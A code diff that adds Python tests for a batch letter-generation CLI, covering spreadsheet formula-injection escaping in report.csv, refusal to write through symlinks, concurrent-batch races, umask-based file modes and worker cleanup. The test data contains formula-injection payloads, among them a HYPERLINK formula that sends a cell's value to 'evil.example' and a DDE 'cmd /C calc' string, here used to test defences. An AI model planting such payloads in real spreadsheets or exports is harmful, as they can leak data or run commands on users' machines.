@@ -13,7 +13,7 @@ from click.testing import CliRunner
 from docx import Document
 from icalendar import Calendar
 from pypdf import PdfReader
-from testdata import BATCH, PROFILES
+from testdata import BATCH, HOSTILE_LETTERS, PROFILES, ROOT
 
 from cli import cli
 from compact_docs.errors import InvalidData
@@ -319,3 +319,177 @@ def test_month_first_dates_with_en_us(tmp_path: Path) -> None:
     result = CliRunner().invoke(cli, [*args, "--dates", "en-US"])
     assert result.exit_code == 0, result.output
     assert "1 April 2024 to 31 March 2027" in docx_text(next((tmp_path / "out").glob("*.docx")))
+
+
+HOSTILE = HOSTILE_LETTERS
+
+
+def test_report_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    summary = run_batch(HOSTILE / "formula-register.csv", "notice", tmp_path, formats=("docx",),
+                        defaults=DEFAULTS, workers=1)
+    assert summary.written == 3
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "report.csv").read_text(encoding="utf-8"))))
+    assert [r["organisation"] for r in rows] == [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "Plain Organisation"]
+    assert [r["reference"] for r in rows] == ["'+44-GR-1", "'-2+3", "'=1+2"]
+    for row in rows:
+        for cell in row.values():
+            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
+    # report.json is not a spreadsheet: it keeps the values as they are.
+    report = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
+    assert report["results"][1]["reference"] == "-2+3"
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\u00a0@x", "'\u00a0@x"), ("\n+1", "'\n+1"),
+    ("Plain", "Plain"), ("a=b", "a=b"), ("", ""),
+])
+def test_spreadsheet_text(cell: str, safe: str) -> None:
+    from compact_docs.rendering.batch_report import spreadsheet_text
+
+    assert spreadsheet_text(cell) == safe
+
+
+def test_reports_never_follow_a_symlink_out_of_the_folder(tmp_path: Path) -> None:
+    out, outside = tmp_path / "out", tmp_path / "outside"
+    out.mkdir()
+    outside.mkdir()
+    for name in ("report.csv", "report.json", "deadlines.ics"):
+        (outside / name).write_text("precious\n", encoding="utf-8")
+        (out / name).symlink_to(outside / name)
+    summary = run_batch(DATA / "register.csv", "notice", out, formats=("docx",), defaults=DEFAULTS,
+                        workers=1, calendar=True)
+    assert summary.written == 3
+    for name in ("report.csv", "report.json", "deadlines.ics"):
+        assert (outside / name).read_text(encoding="utf-8") == "precious\n"
+        assert not (out / name).is_symlink() and (out / name).stat().st_size > 100
+
+
+def test_a_letter_name_that_is_a_symlink_refuses_that_row_only(tmp_path: Path) -> None:
+    out, outside = tmp_path / "out", tmp_path / "outside.docx"
+    out.mkdir()
+    outside.write_bytes(b"precious")
+    (out / "lbb-fsf-2025-004_crayford-community-larder_notice.docx").symlink_to(outside)
+    result = CliRunner().invoke(cli, ["batch", "notice", str(DATA / "register.csv"), "--defaults",
+                                      str(DEFAULTS), "-o", str(out), "--format", "docx", "--workers", "1"])
+    assert result.exit_code == 1, result.output
+    assert "2 of 3 rows written" in result.output
+    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
+    assert [r["status"] for r in report["results"]] == ["written", "refused", "written"]
+    assert "is a symbolic link; refusing to write through it" in report["results"][1]["reason"]
+    assert outside.read_bytes() == b"precious"
+    forced = list(generate_batch(DATA / "register.csv", "notice", out, formats=("docx",), defaults=DEFAULTS,
+                                 workers=1, force=True))
+    assert [r.status for r in forced] == ["written", "refused", "written"]
+    assert outside.read_bytes() == b"precious"
+
+
+def test_a_letter_another_batch_wrote_meanwhile_is_never_replaced(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The race of two batches into one folder: the file appears after this batch checked for it."""
+    from compact_docs.rendering import batch
+    from compact_docs.rendering.output import read_manifest
+
+    real = batch._lay_out_and_write
+
+    def other_batch_first(renderer: Any, settings: Any, job: Any) -> Any:
+        if job.number == 3:  # the second data row (rows are numbered as Excel numbers them)
+            (Path(settings.out_dir) / f"{job.stem}.docx").write_bytes(b"the other batch's letter")
+        return real(renderer, settings, job)
+
+    monkeypatch.setattr(batch, "_lay_out_and_write", other_batch_first)
+    results = list(generate_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",),
+                                  defaults=DEFAULTS, workers=1))
+    assert [r.status for r in results] == ["written", "refused", "written"]
+    assert "lbb-fsf-2025-004_crayford-community-larder_notice.docx already exists" in results[1].reason
+    taken = tmp_path / "lbb-fsf-2025-004_crayford-community-larder_notice.docx"
+    assert taken.read_bytes() == b"the other batch's letter"
+    recorded = [f["name"] for record in read_manifest(tmp_path) for f in record["files"]]
+    assert taken.name not in recorded and len(recorded) == 2
+    assert not list(tmp_path.glob(".*.part"))
+
+
+def _batch_into(out: Path, rows: list[dict[str, Any]], start: Any, answers: Any) -> None:
+    start.wait(30)
+    results = generate_batch(rows, "notice", out, formats=("docx",), defaults=DEFAULTS, workers=1)
+    answers.put([(r.row, r.status, r.reason) for r in results])
+
+
+def test_two_batches_into_one_folder_write_each_letter_once(tmp_path: Path) -> None:
+    from multiprocessing import get_context
+
+    from compact_docs.rendering.output import read_manifest
+
+    rows = [{"organisation": {"name": f"Group {n}"},
+             "funding": {"programme": "Warm Spaces", "reference": f"LBB-WS-{n:03}", "start": "2024-04-01",
+                         "end": "2027-03-31"}, "decision": {"new_annual_value": 1000}} for n in range(20)]
+    context = get_context("fork")
+    start, answers = context.Event(), context.Queue()
+    batches = [context.Process(target=_batch_into, args=(tmp_path, rows, start, answers)) for _ in range(2)]
+    for process in batches:
+        process.start()
+    start.set()
+    outcomes = [answers.get(timeout=120) for _ in batches]
+    for process in batches:
+        process.join(30)
+    written = [row for outcome in outcomes for row, status, _ in outcome if status == "written"]
+    assert sorted(written) == list(range(1, 21))  # each row written by exactly one batch
+    refused = [reason for outcome in outcomes for _, status, reason in outcome if status == "refused"]
+    assert all("already exists" in reason for reason in refused)
+    names = [f["name"] for record in read_manifest(tmp_path) for f in record["files"]]
+    assert len(names) == len(set(names)) == 20
+
+
+@pytest.mark.parametrize(("umask", "mode"), [(0o002, 0o664), (0o022, 0o644), (0o077, 0o600)])
+def test_letters_manifest_reports_and_calendar_follow_the_umask(umask: int, mode: int, tmp_path: Path) -> None:
+    import os
+    import stat
+
+    old = os.umask(umask)
+    try:
+        run_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",), defaults=DEFAULTS,
+                  workers=1, calendar=True)
+    finally:
+        os.umask(old)
+    made = sorted(p for p in tmp_path.rglob("*") if p.is_file())
+    assert {p.name for p in made} >= {"manifest.jsonl", "report.csv", "report.json", "deadlines.ics"}
+    assert len(made) == 9  # and three letters, and this run's report.csv and .json under reports/
+    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in made} == {p.name: oct(mode) for p in made}
+
+
+def test_workers_die_with_a_sigkilled_batch(tmp_path: Path) -> None:
+    import os
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    import psutil
+
+    lines = (DATA / "register.csv").read_text(encoding="utf-8").splitlines()
+    rows = [lines[0]] + [lines[1].replace("LBB-GR-2024-017", f"LBB-GR-{n:04}") for n in range(80)]
+    register = tmp_path / "register.csv"
+    register.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    root = ROOT
+    batch = subprocess.Popen([sys.executable, str(root / "cli.py"), "batch", "notice", str(register),
+                              "--defaults", str(DEFAULTS), "-o", str(tmp_path / "out"), "--format", "pdf",
+                              "--workers", "2"], cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    workers: list[psutil.Process] = []
+    try:
+        deadline = time.monotonic() + 60
+        while len(workers) < 2 and time.monotonic() < deadline:
+            workers = psutil.Process(batch.pid).children()
+            time.sleep(0.1)
+        assert len(workers) == 2, "the batch never started its workers"
+        time.sleep(1)  # let them get to work
+        os.kill(batch.pid, signal.SIGKILL)
+        batch.wait(10)
+        _, alive = psutil.wait_procs(workers, timeout=10)
+        assert alive == [], "workers outlived the batch"
+    finally:
+        batch.kill()
+        for worker in workers:
+            if worker.is_running():
+                worker.kill()
